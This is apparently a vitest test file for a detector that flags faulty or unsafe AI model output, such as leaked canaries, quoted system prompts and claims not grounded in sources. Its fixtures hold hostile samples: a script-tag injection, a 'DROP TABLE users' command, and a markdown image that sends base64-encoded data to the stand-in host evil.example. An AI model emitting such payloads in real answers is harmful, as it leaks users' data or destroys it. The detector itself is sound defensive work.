import { type Answered, detectOutput, OUTPUT_SIGNALS, type OutputSignal } from '@spanproof/vocabulary';
import { expect, test } from 'vitest';

const plain: Answered = { answer: 'The invoice is paid.', sources: [] };
const PROMPT = 'You are the assistant of a bank. Never speak about interest rates of competitors, and always be polite to customers. canary-7f3a9c2e5b8d1f4a';

/** For each signal an answer that has it, and the nearest one that has not. */
const CASES: { readonly [Signal in OutputSignal]: readonly [has: Answered, hasNot: Answered] } = {
  canary_leaked: [
    { ...plain, answer: 'It says canary-7f3a9c2e5b8d1f4a.', systemPrompt: PROMPT },
    { ...plain, answer: 'A canary-yellow car.', systemPrompt: PROMPT },
  ],
  system_prompt_quoted: [
    { ...plain, answer: 'I was told: never speak about interest rates of competitors, and always be polite to customers.', systemPrompt: PROMPT },
    { ...plain, answer: 'I never speak about interest rates of other banks.', systemPrompt: PROMPT },
  ],
  unsafe_html: [
    { ...plain, answer: 'Here: <script>fetch(1)</script>' },
    { ...plain, answer: 'Here:\n```html\n<script>fetch(1)</script>\n```' },
  ],
  unsafe_sql: [
    { ...plain, answer: 'run this; DROP TABLE users' },
    { ...plain, answer: 'run `DROP TABLE users` never; drop the table from the list' },
  ],
  unsafe_url: [
    { ...plain, answer: '![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)' },
    { ...plain, answer: '![x](https://cdn.example/p.png) [y](https://evil.example/?d=c2VjcmV0IGRhdGE)' },
  ],
  truncated: [
    { ...plain, finishReasons: ['length'] },
    { ...plain, finishReasons: ['stop'] },
  ],
  repetitive: [
    { ...plain, answer: 'and then we go home '.repeat(20) },
    { ...plain, answer: 'one two three four five six seven eight nine ten eleven twelve' },
  ],
  figure_not_in_sources: [
    { ...plain, answer: 'Revenue was 4,512.', sources: ['Revenue: 4215'] },
    { ...plain, answer: 'Revenue was 4,215.', sources: ['Revenue: 4215'] },
  ],
  url_not_in_sources: [
    { ...plain, answer: 'See https://b.example/x.', sources: ['https://a.example/x'] },
    { ...plain, answer: 'See https://a.example/x.', sources: ['https://a.example/x'] },
  ],
  quote_not_in_sources: [
    { ...plain, answer: 'It says "the sea is calm and blue today".', sources: ['The sea is rough and grey today.'] },
    { ...plain, answer: 'It says "The sea is rough and grey today".', sources: ['the sea  is rough and grey today.'] },
  ],
};

test.each(OUTPUT_SIGNALS)('%s', (signal) => {
  const [has, hasNot] = CASES[signal];
  expect(detectOutput(has)).toEqual([signal]);
  expect(detectOutput(hasNot)).toEqual([]);
});

test('says nothing about grounding where nothing was supplied', () => {
  expect(detectOutput({ ...plain, answer: 'Pi is 3.14159, see https://pi.example/x, "a very long quotation indeed"' })).toEqual([]);
});

test('reads a hostile answer once', () => {
  for (const unit of ['![', '```', '`', '"', "' or '", '<', '; ', 'https://']) {
    const started = performance.now();
    detectOutput({ ...plain, answer: unit.repeat(200_000), systemPrompt: unit.repeat(50_000), sources: [unit.repeat(10_000)] });
    expect(performance.now() - started, unit).toBeLessThan(2000);
  }
});
